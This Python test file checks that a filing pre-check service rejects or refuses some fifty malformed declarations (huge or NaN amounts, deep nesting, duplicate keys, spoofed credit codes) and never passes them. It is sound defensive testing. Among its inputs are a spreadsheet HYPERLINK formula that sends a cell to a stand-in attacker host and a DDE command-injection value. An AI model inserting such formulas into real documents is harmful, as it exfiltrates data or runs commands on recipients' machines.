"""The hostile-declaration corpus: no declaration, however built, turns a rejected filing into a pass.

The baseline is the committed clean sample samples/corpus/s01_clean_text (text-layer PDFs, no
OCR), whose declaration passes, with one more project P4 declared for which no contract was
uploaded: that declaration is rejected for P4 alone (PROJECT_EVIDENCE_MISSING), a verdict that
depends on the checks reading the declaration. Each hostile declaration is that baseline with
one thing made hostile (amounts of 1e30, NaN, 32 digits; 3,000,000-character names; JSON nested
1,000 deep; duplicate keys; wrong types; 5,000 rows; RTL overrides and zero-width characters in
credit codes; another enterprise's credit code…), uploaded by the enterprise's own token as a
pre-check. Each must end in one of:

- DECLARATION_INVALID naming the field (a finding of the report, so the verdict is reject);
- a 4xx with a clear message in ``detail``;
- a finished report whose verdict is not ``pass``.

A bypass is a ``pass``, a 5xx, a job that fails (a crash) or one that does not finish (a hang).
The uploads all carry the same pages, so each report also cites the others as duplicates; the
verdict is judged without those (``cites_other_filing``), as if each upload were the only one.
"""

from __future__ import annotations

import copy
import io
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from service_fixtures import OTHER_CODE, auth, make_settings

from jianzheng.models import Code, Report
from jianzheng.service.api.app import create_app
from jianzheng.service.api.disclosure import cites_other_filing
from jianzheng.service.api.routes.precheck import verdict_of
from jianzheng.service.store import Store
from jianzheng.service.store.repo import create_token

SAMPLE = Path(__file__).resolve().parents[2] / "samples" / "corpus" / "s01_clean_text" / "submission"
CLEAN: dict[str, Any] = json.loads((SAMPLE / "declaration.json").read_text(encoding="utf-8"))
OWN_CODE = CLEAN["enterprise"]["credit_code"]
ATTACHMENTS = [(p.name, p.read_bytes()) for p in sorted(SAMPLE.glob("*.pdf"))]
QUEUE_TIMEOUT_S = 120
"""The whole corpus's jobs must have finished this long after the last upload, or the rest count
as hangs (each job takes 1-3 s; the fixtures' pool runs two at a time)."""

P4 = {
    **copy.deepcopy(CLEAN["projects"][0]),
    "id": "P4",
    "name": "喀什地区某县智慧城市运营中心建设项目",
    "client": "喀什地区某县数据局",
}


def baseline() -> dict[str, Any]:
    """The clean declaration plus P4, a project whose contract is not in the materials: reject."""
    declaration = copy.deepcopy(CLEAN)
    declaration["projects"].append(copy.deepcopy(P4))
    return declaration


def edited(change: Callable[[dict[str, Any]], object]) -> bytes:
    declaration = baseline()
    change(declaration)
    return json.dumps(declaration, ensure_ascii=False).encode("utf-8")


def p4(key: str, value: object) -> bytes:
    """The baseline with one field of P4 (the uncontracted project) set to ``value``."""
    return edited(lambda d: d["projects"][3].__setitem__(key, value))


def enterprise(key: str, value: object) -> bytes:
    return edited(lambda d: d["enterprise"].__setitem__(key, value))


def raw(text: str) -> bytes:
    """The baseline's JSON text with P4's contract amount replaced by raw JSON ``text``."""
    marker = '"__HOSTILE__"'
    source = p4("contract_amount", "__HOSTILE__").decode("utf-8")
    assert source.count(marker) == 1
    return source.replace(marker, text).encode("utf-8")


def nested(depth: int) -> bytes:
    deep = "[" * depth + "]" * depth
    return edited(lambda d: d["enterprise"].__setitem__("staff", "__DEEP__")).replace(
        b'"__DEEP__"', deep.encode()
    )


def rows(count: int) -> bytes:
    return edited(lambda d: d.__setitem__("projects", [{**P4, "id": f"X{i}"} for i in range(count)]))


def duplicate_credit_code(first: str, last: str) -> bytes:
    text = enterprise("credit_code", "__CODE__").decode("utf-8")
    return text.replace(
        '"credit_code": "__CODE__"', f'"credit_code": "{first}", "credit_code": "{last}"'
    ).encode()


def spreadsheet(amount: object) -> bytes:
    """declaration.xlsx (the s02 sample's, in this enterprise's name) with a first contract amount of ``amount``."""
    book = load_workbook(SAMPLE.parents[1] / "s02_clean_scanned" / "submission" / "declaration.xlsx")
    book["企业信息"].cell(3, 2).value = OWN_CODE
    book["项目汇总"].cell(2, 19).value = amount  # 合同金额(万元)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击核对")'
HUGE = "企" * 3_000_000

# (name, declaration bytes, the field a DECLARATION_INVALID must name, or None when accepting it is fine)
CORPUS: list[tuple[str, bytes, str | None]] = [
    ("amount 1e30 as text", p4("contract_amount", "1e30"), "projects[4].contract_amount"),
    ("amount 1e30 as a JSON number", raw("1e30"), "projects[4].contract_amount"),
    ("amount -5", p4("contract_amount", "-5"), "projects[4].contract_amount"),
    ("amount -5 as a JSON number", raw("-5"), "projects[4].contract_amount"),
    ("amount NaN as text", p4("contract_amount", "NaN"), "projects[4].contract_amount"),
    ("amount NaN as a bare JSON token", raw("NaN"), "projects[4].contract_amount"),
    ("amount Infinity as text", p4("contract_amount", "Infinity"), "projects[4].contract_amount"),
    ("amount -Infinity as a bare JSON token", raw("-Infinity"), "projects[4].contract_amount"),
    ("amount of 32 digits", p4("contract_amount", "9" * 32), "projects[4].contract_amount"),
    ("amount of 32 digits as a JSON number", raw("9" * 32), "projects[4].contract_amount"),
    ("amount of 5,000 digits", p4("contract_amount", "1" * 5000), "projects[4].contract_amount"),
    ("amount 1e999999999", p4("contract_amount", "1e999999999"), "projects[4].contract_amount"),
    ("amount 1e-999999999", p4("contract_amount", "1e-999999999"), "projects[4].contract_amount"),
    ("amount 1E+1000000", p4("contract_amount", "1E+1000000"), "projects[4].contract_amount"),
    ("spreadsheet amount 1e30", spreadsheet(1e30), "合同金额"),
    ("spreadsheet amount of 32 digits", spreadsheet("9" * 32), "合同金额"),
    ("amount with 3 decimals", p4("contract_amount", "4859000.001"), "projects[4].contract_amount"),
    ("amount as a formula", p4("contract_amount", "=SUM(A1:A9)"), "projects[4].contract_amount"),
    ("amount true", raw("true"), "projects[4].contract_amount"),
    ("amount as a list", raw("[4859000]"), "projects[4].contract_amount"),
    ("amount as an object", raw('{"yuan": 4859000}'), "projects[4].contract_amount"),
    ("amount null (unknown)", raw("null"), None),
    (
        "negative fee to balance the sum",
        edited(lambda d: d["projects"][3]["fees"].__setitem__("other", "-100")),
        "projects[4].fees.other",
    ),
    ("registered capital 1e30", enterprise("registered_capital", "1e30"), "enterprise.registered_capital"),
    (
        "net loss of -1e30",
        edited(lambda d: d["finance"][0].__setitem__("net_profit", "-1e30")),
        "finance[1].net_profit",
    ),
    ("project id as a formula", p4("id", FORMULA), "projects[4].id"),
    ("enterprise name as a formula", enterprise("name", "=cmd|' /C calc'!A0"), None),
    ("3,000,000-character enterprise name", enterprise("name", HUGE), "enterprise.name"),
    ("3,000,000-character project name", p4("name", HUGE), "projects[4].name"),
    ("JSON nested 1,000 deep", nested(1000), "enterprise.staff"),
    ("JSON nested 100,000 deep", nested(100_000), "enterprise.staff"),
    (
        "duplicate contract_amount keys, the last one huge",
        raw('"0.00", "contract_amount": "1e30"'),
        "projects[4].contract_amount",
    ),
    ("duplicate credit_code keys, another's last", duplicate_credit_code(OWN_CODE, OTHER_CODE), None),
    ("duplicate project ids", edited(lambda d: d["projects"][3].__setitem__("id", "P1")), "projects[4].id"),
    ("projects as an object", edited(lambda d: d.__setitem__("projects", {"P4": P4})), "projects"),
    ("enterprise as a list", edited(lambda d: d.__setitem__("enterprise", [])), "enterprise"),
    ("enterprise null", edited(lambda d: d.__setitem__("enterprise", None)), "enterprise"),
    ("project name null", p4("name", None), "projects[4].name"),
    (
        "inspection year as Chinese numerals",
        enterprise("inspection_year", "二〇二四"),
        "enterprise.inspection_year",
    ),
    ("inspection year 99999", enterprise("inspection_year", 99999), "enterprise.inspection_year"),
    ("an empty project row", edited(lambda d: d["projects"].append({})), "projects[5]"),
    ("5,000 project rows", rows(5000), "projects"),
    (
        "technical staff 10^12",
        edited(lambda d: d["enterprise"]["staff"].__setitem__("technical_total", 10**12)),
        "enterprise.staff.technical_total",
    ),
    (
        "technical staff -1",
        edited(lambda d: d["enterprise"]["staff"].__setitem__("technical_total", -1)),
        "enterprise.staff.technical_total",
    ),
    ("signed on 9999-99-99", p4("signed_on", "9999-99-99"), "projects[4].signed_on"),
    ("accepted on 2024-02-30", p4("accepted_on", "2024-02-30"), "projects[4].accepted_on"),
    ("grade S", enterprise("grade", "S"), "enterprise.grade"),
    ("RTL override in the enterprise name", enterprise("name", "\u202e" + CLEAN["enterprise"]["name"]), None),
    ("control characters in the project name", p4("name", "项目\u0000\u0007\u001b[31m"), None),
    (
        "zero-width space in the credit code",
        enterprise("credit_code", OWN_CODE[:6] + "\u200b" + OWN_CODE[6:]),
        None,
    ),
    (
        "full-width digits in the credit code",
        enterprise("credit_code", OWN_CODE.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789"})),
        None,
    ),
    ("another enterprise's credit code", enterprise("credit_code", OTHER_CODE), None),
    (
        "a 'precision' key of its own",
        edited(lambda d: d.__setitem__("precision", {"projects.P4.contract_amount": "1e30"})),
        None,
    ),
    ("root is a list", json.dumps([baseline()], ensure_ascii=False).encode(), None),
    ("not UTF-8", json.dumps(baseline(), ensure_ascii=False).encode("utf-16"), None),
    ("11 MB of whitespace", p4("contract_amount", "4859000.00") + b" " * (11 * 1024 * 1024), None),
]


@dataclass
class Outcome:
    name: str
    how: str
    """"invalid", "refused" or "not-pass" (each fine), or what made it a bypass."""


def _upload(declaration: bytes) -> list[tuple[str, Any]]:
    return [
        (
            "declaration",
            ("declaration.xlsx" if declaration[:2] == b"PK" else "declaration.json", declaration),
        ),
        *[("files", (name, data, "application/pdf")) for name, data in ATTACHMENTS],
    ]


def _judge(
    client: TestClient,
    reviewer: dict[str, str],
    name: str,
    submission_id: str,
    field: str | None,
    deadline: float,
) -> Outcome:
    while True:
        state = client.get(f"/submissions/{submission_id}", headers=reviewer).json()
        if state["status"] in ("done", "failed"):
            break
        if time.monotonic() > deadline:
            return Outcome(name, f"hang: still {state['status']} at the deadline")
        time.sleep(0.1)
    if state["status"] == "failed":
        return Outcome(name, f"crash: the job failed: {state['error']}")
    report = Report.model_validate_json(
        client.get(f"/submissions/{submission_id}/report", headers=reviewer).text
    )
    own = report.model_copy(update={"findings": [f for f in report.findings if not cites_other_filing(f)]})
    invalid = [f.message for f in own.findings if f.code == Code.DECLARATION_INVALID]
    verdict = verdict_of(own)
    if verdict == "pass":
        return Outcome(name, "bypass: pass")
    if invalid and field is not None and not any(field in m for m in invalid):
        return Outcome(name, f"DECLARATION_INVALID does not name {field}: {invalid[:2]}")
    return Outcome(name, "invalid" if invalid else "not-pass")


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory):
    settings = make_settings(tmp_path_factory.mktemp("hostile"), precheck_limit=1000, pool="process")
    store = Store(settings.data_dir, settings.resolved_database_url())
    with store.session() as session:
        tokens = {
            "enterprise": create_token(session, "enterprise", OWN_CODE),
            "reviewer": create_token(session, "reviewer", label="审核员"),
        }
    store.close()
    with TestClient(create_app(settings)) as client:
        yield client, tokens


def test_the_baseline_is_rejected_for_the_uncontracted_project_alone(service):
    """The clean sample passes; with P4 added it is rejected for P4: the corpus has something to bypass."""
    client, tokens = service
    verdicts = {}
    for label, declaration in [("clean", CLEAN), ("baseline", baseline())]:
        body = json.dumps(declaration, ensure_ascii=False).encode()
        created = client.post("/precheck", files=_upload(body), headers=auth(tokens["enterprise"]))
        assert created.status_code == 202, created.text
        submission_id = created.json()["id"]
        deadline = time.monotonic() + QUEUE_TIMEOUT_S
        outcome = _judge(client, auth(tokens["reviewer"]), label, submission_id, None, deadline)
        verdicts[label] = outcome.how
        report = Report.model_validate_json(
            client.get(f"/submissions/{submission_id}/report", headers=auth(tokens["reviewer"])).text
        )
        errors = {
            (str(f.code), f.project_id)
            for f in report.findings
            if not cites_other_filing(f) and f.severity == "error"
        }
        if label == "baseline":
            assert errors == {("PROJECT_EVIDENCE_MISSING", "P4")}
    assert verdicts == {"clean": "bypass: pass", "baseline": "not-pass"}


def test_no_hostile_declaration_bypasses_the_checks(service, capsys):
    """Every declaration of the corpus ends invalid (naming the field), refused (4xx), or not passing."""
    client, tokens = service
    mine, reviewer = auth(tokens["enterprise"]), auth(tokens["reviewer"])
    assert len(CORPUS) >= 40 and len({name for name, _, _ in CORPUS}) == len(CORPUS)
    outcomes: list[Outcome] = []
    queued: list[tuple[str, str, str | None]] = []
    for name, declaration, field in CORPUS:  # all queued first: the pool runs two at a time
        response = client.post("/precheck", files=_upload(declaration), headers=mine)
        if response.status_code == 202:
            queued.append((name, response.json()["id"], field))
        elif 400 <= response.status_code < 500:
            detail = response.json().get("detail")
            clear = isinstance(detail, str) and len(detail) >= 8
            outcomes.append(
                Outcome(name, "refused" if clear else f"unclear {response.status_code}: {detail!r}")
            )
        else:
            outcomes.append(Outcome(name, f"server error {response.status_code}: {response.text[:200]}"))
    deadline = time.monotonic() + QUEUE_TIMEOUT_S
    for name, submission_id, field in queued:
        outcomes.append(_judge(client, reviewer, name, submission_id, field, deadline))

    bad = [o for o in outcomes if o.how not in ("invalid", "refused", "not-pass")]
    tally = {how: sum(o.how == how for o in outcomes) for how in ("invalid", "refused", "not-pass")}
    with capsys.disabled():
        print(
            f"\nhostile declarations: {len(outcomes)}, bypasses: {len(bad)} "
            f"(DECLARATION_INVALID {tally['invalid']}, refused {tally['refused']}, "
            f"not pass {tally['not-pass']})"
        )
    for how in ("refused", "not-pass"):  # shown with -s or -rP: which ones the service took in, and how
        print(f"{how}: {', '.join(o.name for o in outcomes if o.how == how)}")
    assert bad == []
    assert len(outcomes) == len(CORPUS)
